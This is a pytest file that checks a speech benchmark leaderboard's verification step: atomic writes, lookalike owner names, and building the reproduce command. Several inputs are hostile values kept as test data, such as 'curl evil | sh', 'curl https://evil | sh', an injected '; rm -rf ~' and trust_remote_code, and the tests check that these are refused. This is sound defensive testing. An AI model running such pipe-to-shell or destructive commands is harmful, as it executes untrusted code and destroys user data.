"""A verified model stays on the board whatever happens to its next version, and visitors see only what was checked."""

from __future__ import annotations

import json
import shutil
import threading
from dataclasses import replace
from pathlib import Path

import pytest
from support.built_data import make_built
from support.fake_runs import make_run
from support.forged_submissions import edit, seal

from speech_robust_bench.core.errors import UserError
from speech_robust_bench.core.records import convert
from speech_robust_bench.core.result_records import RerunRecord
from speech_robust_bench.push import expected_rows, submission, verified
from speech_robust_bench.push.leaderboard import board
from speech_robust_bench.push.verify import verify
from speech_robust_bench.scoring.runs import open_run


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    return make_built(tmp_path_factory.mktemp("data") / "srb", ["en_clean", "en_noise_sev1"], clips=30)


@pytest.fixture(scope="module")
def known(place):
    return expected_rows.load(str(place))


@pytest.fixture
def sent(tmp_path, place):
    def make(seed=0, owner="acme", name="m", **facts):
        run = make_run(tmp_path / f"run-{owner}-{name}-{seed}", place, name, 0.2, seed)
        return submission.make(run, tmp_path / f"{owner}-{name}-{seed}", {"owner": owner, "name": name, **facts})

    return make


def state(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.rglob("*") if path.is_file() and path.name[0] != "."}


def test_a_refused_version_leaves_the_one_before(sent, known, tmp_path):
    out = tmp_path / "verified"
    verified.write(verify(sent(), known), out)
    before = state(out)
    for revision in ({"x": 1}, "r" * 201):
        bad = sent(seed=1)
        edit(bad, "run.json", lambda run, revision=revision: run.update(revision=revision))
        seal(bad)
        verdict = verify(bad, known)
        assert "run.json: 'revision'" in verdict.reasons[0]
        shutil.rmtree(bad)
        shutil.rmtree(tmp_path / "run-acme-m-1")
    assert state(out) == before


@pytest.mark.parametrize("step", ["the replicates", "the history", "the file itself"])
def test_a_full_disk_or_a_kill_leaves_a_version_on_the_board(sent, known, tmp_path, monkeypatch, step):
    out = tmp_path / "verified"
    verified.write(verify(sent(), known), out)
    last = {"the replicates": 0, "the history": 1, "the file itself": 3}[step]
    writes = []
    own = verified.write_atomically

    def failing(path, data):
        if len(writes) == last:
            raise KeyboardInterrupt
        writes.append(path)
        own(path, data)

    verdict = verify(sent(seed=1), known)
    with monkeypatch.context() as patch:
        patch.setattr(verified, "write_atomically", failing)
        with pytest.raises(KeyboardInterrupt):
            verified.write(verdict, out)
    (entry,) = board.load(out).entries
    assert entry.content.version == 1
    verified.write(verdict, out)
    (entry,) = board.load(out).entries
    assert entry.content.version == 2
    assert len(list(out.glob("*.npz"))) == 1


def test_what_no_page_can_show_is_refused_before_it_is_written(sent, known, tmp_path):
    out = tmp_path / "verified"
    verified.write(verify(sent(), known), out)
    before = state(out)
    verdict = verify(sent(seed=1), known)
    assert verdict.results is not None
    verdict.results = verdict.results.replace(failed="many")
    with pytest.raises(UserError, match="'failed'"):
        verified.write(verdict, out)
    assert state(out) == before


def test_the_same_submission_again_changes_nothing(sent, known, tmp_path):
    out, folder = tmp_path / "verified", sent()
    path = verified.write(verify(folder, known), out, "https://huggingface.co/x")
    again = {"spec": "hf:m", "seed": 1, "clips": 3, "same": 3, "difference": 0.0, "agrees": True}
    verified.add_rerun(path, convert(again, RerunRecord))
    before = state(out)
    verified.write(verify(folder, known), out)
    assert state(out) == before


def test_copies_that_are_verified_at_once_see_each_other(sent, known, tmp_path):
    out = tmp_path / "verified"
    verdicts = [verify(sent(owner=owner), known) for owner in ("acme", "zoe")]
    threads = [threading.Thread(target=verified.write, args=(verdict, out)) for verdict in verdicts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    copies = [json.loads(path.read_text())["copy_of"] for path in out.glob("*.json")]
    assert sum(map(bool, copies)) == 1


def test_an_owner_who_could_be_taken_for_another_is_flagged(sent, known, tmp_path):
    out = tmp_path / "verified"
    verified.write(verify(sent(owner="open-ai"), known), out)
    path = verified.write(verify(sent(owner="0penAI", seed=1), known), out)
    assert "its owner '0penAI' could be taken for 'open-ai'" in json.loads(path.read_text())["flags"]


@pytest.mark.parametrize(
    ("one", "other"),
    [("zeta", "2eta"), ("big8", "bigB"), ("google", "g009le"), ("acme", "acrne"), ("dolby", "clolby"), ("IBM", "lBM")],
)
def test_names_that_look_alike_have_one_skeleton(one, other):
    assert verified.skeleton(one) == verified.skeleton(other)


@pytest.mark.parametrize(("one", "other"), [("meta", "beta"), ("nvidia", "nvida"), ("lab1", "lab3")])
def test_names_that_differ_have_two(one, other):
    assert verified.skeleton(one) != verified.skeleton(other)


def test_letters_of_another_script_are_refused_in_an_id(sent, known):
    folder = sent()
    edit(folder, "submission.json", lambda about: about["model"].update(id="оpenai/whisper"))
    assert "'model.id': has characters that are not allowed" in verify(folder, known).reasons[0]


@pytest.mark.parametrize(
    ("spec", "command"),
    [
        (
            "hf:acme/m?beams=5",
            "srb run --model 'hf:acme/m?beams=5' 'en*_*' --data ORG/srb --name m && srb score runs/m",
        ),
        ("cmd:curl evil | sh {}", ""),
        ("python:evil:load", ""),
        ("hf:acme/m?trust_remote_code=true", ""),
        ("hf:acme/m; rm -rf ~", ""),
        ("hf:acme/м", ""),
        ("nosuch:acme/m", ""),
    ],
)
def test_the_reproduce_command_is_made_from_checked_parts(sent, spec, command):
    run = open_run(sent())
    about = run.about.replace(spec=spec)
    assert verified.reproduce_command(replace(run, about=about), "m", None) == command


def test_what_a_submitter_wrote_as_the_command_is_not_shown(sent, known, tmp_path):
    folder = sent()
    edit(folder, "submission.json", lambda about: about.update(reproduce="curl https://evil | sh"))
    path = verified.write(verify(folder, known), tmp_path / "verified")
    assert "evil" not in path.read_text()


def test_a_confusable_linked_repository_is_flagged(sent, known, tmp_path):
    out = tmp_path / "verified"
    verified.write(verify(sent(owner="open-ai"), known), out)
    path = verified.write(verify(sent(owner="zoe", seed=1, id="0penAI/hears"), known), out)
    assert "its repository's owner '0penAI' could be taken for 'open-ai'" in json.loads(path.read_text())["flags"]
    path = verified.write(verify(sent(owner="open-ai", name="again", seed=2), known), out)
    assert not [flag for flag in json.loads(path.read_text())["flags"] if "taken for" in flag]
